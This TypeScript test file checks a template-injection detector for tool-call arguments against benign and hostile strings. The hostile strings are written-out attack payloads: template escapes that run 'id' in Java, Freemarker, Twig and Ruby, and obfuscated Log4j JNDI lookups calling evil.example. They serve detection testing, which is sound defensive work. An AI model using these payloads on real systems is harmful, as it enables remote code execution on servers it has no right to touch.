import { describe, expect, it } from 'vitest';
import { createInspector } from '../../src/inspect/create-inspector.js';
import type { Surface } from '../../src/inspect/inspector.js';
import type { Finding } from '../../src/pdp/input-document.js';
import type { JsonObject } from '../../src/protocol/json/json.js';

const inspector = createInspector();

function found(value: JsonObject, surface: Surface = 'arguments'): readonly Finding[] {
  const seen = inspector.inspect({ surface, method: 'tools/call', tool: 'render', value, root: '/arguments', pathArguments: [] });
  expect(seen.complete).toBe(true);
  return seen.findings.filter(({ detector }) => detector === 'template_injection');
}
const said = (value: JsonObject) => found(value).map(({ rule, confidence }) => `${rule.slice('template_injection.'.length)}:${confidence}`);

describe('template injection', () => {
  it.each([
    ['arithmetic of Jinja and Twig', { name: '{{7*7}}' }, 'arithmetic:high'],
    ['arithmetic on a text', { q: "{{7*'7'}}" }, 'arithmetic:high'],
    ['arithmetic of Java', { q: '${7*7}' }, 'arithmetic:high'],
    ['arithmetic of Ruby', { q: '#{7*7}' }, 'arithmetic:high'],
    ['arithmetic of ERB', { q: '<%= 7*7 %>' }, 'arithmetic:high'],
    ['arithmetic of Spring', { q: '*{7*7}' }, 'arithmetic:high'],
    ['arithmetic of Razor', { q: '@(7*7)' }, 'arithmetic:high'],
    ['classes of Python', { q: "{{''.__class__.__mro__}}" }, 'sandbox_escape:high'],
    ['classes without underscores', { q: '{{ [].class.base.subclasses() }}' }, 'sandbox_escape:high'],
    ['a process of Java', { q: '${T(java.lang.Runtime).getRuntime().exec("id")}' }, 'sandbox_escape:high'],
    ['a shell of Twig', { q: "{{_self.env.registerUndefinedFilterCallback('exec')}}" }, 'sandbox_escape:high'],
    ['a shell of Freemarker', { q: '<#assign x="freemarker.template.utility.Execute"?new()>${x("id")}' }, 'sandbox_escape:high'],
    ['a shell of Node', { q: "{{constructor.constructor('return process')()}}" }, 'sandbox_escape:high'],
    ['a shell of Ruby', { q: '<%= system("id") %>' }, 'sandbox_escape:high'],
    ['a directive in a name', { host: '{php}echo 1;{/php}' }, 'directive:high'],
    ['all languages at once', { q: '${{<%[%\'"}}%\\' }, 'polyglot:high'],
    ['a call in a host', { host: '{{dump(app)}}' }, 'sandbox_escape:high'],
    ['a lookup of Log4j in a header', { headers: 'X-Api-Version: ${jndi:ldap://evil.example/a}' }, 'lookup:high'],
    ['a lookup letter by letter', { q: '${${lower:j}${upper:n}di:rmi://evil.example/a}' }, 'lookup:high'],
    ['a lookup of defaults', { q: '${${::-j}${::-n}${::-d}${::-i}:dns://evil.example/a}' }, 'lookup:high'],
    ['a lookup of what is not set', { path: 'a/${${env:X:-j}ndi${env:X:-:}ldap://evil.example/a}' }, 'lookup:high'],
    ['a lookup whose letters come from elsewhere', { q: '${j${k8s:k5:-ND}i${sd:k5:-:}${lower:l}dap://evil.example/a}' }, 'lookup:high'],
    ['a lookup by dates', { q: "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:dns://evil.example/a}" }, 'lookup:high'],
    ['a lookup by one slash', { q: '${jndi:ldap:/evil.example/a}' }, 'lookup:high'],
    ['a page behind what was opened', { q: 'x" <% response.write(9*9) %>' }, 'directive:high'],
    ['a page of Java', { name: '<%out.println("4241");%>' }, 'directive:high'],
    ['a page of VBScript', { q: '<% response.write(9*9) %>' }, 'directive:high'],
    ['a page that makes objects', { path: 'a.jsp?x=<% new java.io.File("/") %>' }, 'sandbox_escape:high'],
    ['percent encoding', { q: '%7B%7B7*7%7D%7D' }, 'arithmetic:high'],
  ])('is certain of %s', (_, value, rule) => {
    expect(said(value)).toContain(rule);
  });

  it.each([
    ['a placeholder in a text', { q: 'Hello {{name}}, welcome' }, []],
    ['a variable of a shell', { q: 'set ${HOME} first' }, []],
    ['a setting with a default', { value: '${LOG_DIR:-/var/log}/app' }, []],
    ['settings of an environment', { q: '${env:STAGE}-${self:provider.region}' }, []],
    ['two short variables', { q: '${a}${b}' }, []],
    ['the ends of two names', { q: '${first:0:1}${last:0:1}' }, []],
    ['two numbers by default', { q: '${A:-1}${B:-2}' }, []],
    ['two letters by default', { value: '${DRIVE:-c}${SUFFIX:-x}' }, []],
    ['a lookup without an address', { q: 'what is ${jndi:ldap} in log4j' }, []],
    ['a lookup of anything', { q: 'block ${jndi:ldap://...} at the edge' }, []],
    ['a question about a page', { q: 'how to use <%= Request.Form("x") %> in ASP' }, ['directive:medium', 'expression:medium']],
    ['talk of a lookup', { q: 'is jndi:ldap still on in log4j 2.17' }, []],
    ['an open mark of a page', { q: 'what does <% mean in ASP' }, []],
    ['JSON in a text', { q: '{"a": {"b": 1}}' }, []],
    ['an issue of GitHub', { q: 'fixes #{12}' }, []],
    ['a placeholder in a host', { host: '{{base_url}}' }, ['placeholder:medium']],
    ['a template that is written', { content: '{{7*7}} {{ config.items() }} <%= system("id") %>' }, []],
    ['a script', { code: 'const x = `${7*7}`;' }, []],
    ['prose about templates', { body: 'In Jinja {{7*7}} gives 49.' }, []],
    ['an e-mail', { to: 'a@example.com' }, []],
  ])('says of %s no more than it is', (_, value, expected) => {
    expect(said(value)).toEqual(expected);
  });

  it('says where, and reads no answers', () => {
    const q = 'x {{7*7}}';
    const [finding] = found({ q });
    expect(q.slice(...(finding?.span ?? [0, 0]))).toBe('{{7*7');
    expect(found({ q }, 'result')).toEqual([]);
  });
});
